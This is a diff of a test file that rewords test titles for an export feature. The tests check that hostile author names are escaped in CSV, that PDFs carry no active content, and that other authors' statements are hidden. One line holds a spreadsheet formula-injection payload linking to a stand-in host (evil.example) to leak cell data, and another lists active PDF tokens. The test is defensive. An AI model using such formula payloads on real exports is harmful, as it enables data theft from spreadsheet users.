@@ -26,7 +26,7 @@ beforeAll(async () => {
 });
 
 describe('Case 28: names that contain code, and statements of somebody else', () => {
-  it('writes hostile names into CSV so that no spreadsheet computes them', async () => {
+  it('CSV contains hostile names so that no spreadsheet computes them', async () => {
     const csv = await world.file(hostile.session, `/author/statements/${id}/csv`);
     expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
     expect(csv).toContain('U+202E@SUM');
@@ -34,14 +34,14 @@ describe('Case 28: names that contain code, and statements of somebody else', ()
     for (const row of csv.split('\r\n')) expect(row).not.toMatch(/(^|,)"?[=+@]/);
   });
 
-  it('keeps them as they are in JSON, and as text in the PDF', async () => {
+  it('JSON contains hostile names unchanged, and PDF as text', async () => {
     const document = parseStatement(await world.file(hostile.session, `/author/statements/${id}/json`));
     expect(document.lines[0]).toMatchObject({ drive_name: DRIVE, venture_name: VENTURE });
     const pdf = await world.file(hostile.session, `/author/statements/${id}/pdf`);
     for (const token of ['/JavaScript', '/OpenAction', '/URI', 'evil.example']) expect(pdf).not.toContain(token);
   });
 
-  it('sends every form as a download that no browser shows as a page', async () => {
+  it('every form is a download that no browser shows as a page', async () => {
     for (const [form, type] of [
       ['csv', 'text/csv; charset=utf-8'],
       ['json', 'application/json; charset=utf-8'],
@@ -54,7 +54,7 @@ describe('Case 28: names that contain code, and statements of somebody else', ()
     }
   });
 
-  it('answers 404 for the statement of another author, the same as for one that does not exist', async () => {
+  it('a statement of another author is answered 404, the same as one that does not exist', async () => {
     const nobody = '0190a000-0000-7000-8000-00000000dead';
     for (const path of ['', '/csv', '/json', '/pdf', '/verify']) {
       const [theirs, none] = [
@@ -71,7 +71,7 @@ describe('Case 28: names that contain code, and statements of somebody else', ()
     expect(list.body).not.toContain(other.orgId);
   });
 
-  it('reveals nothing of the other author in the proof', async () => {
+  it('the proof reveals nothing of the other author', async () => {
     const text = await world.file(hostile.session, `/author/statements/${id}/json`);
     const { proof } = parseStatement(text);
     expect(proof!.size).toBe(2);
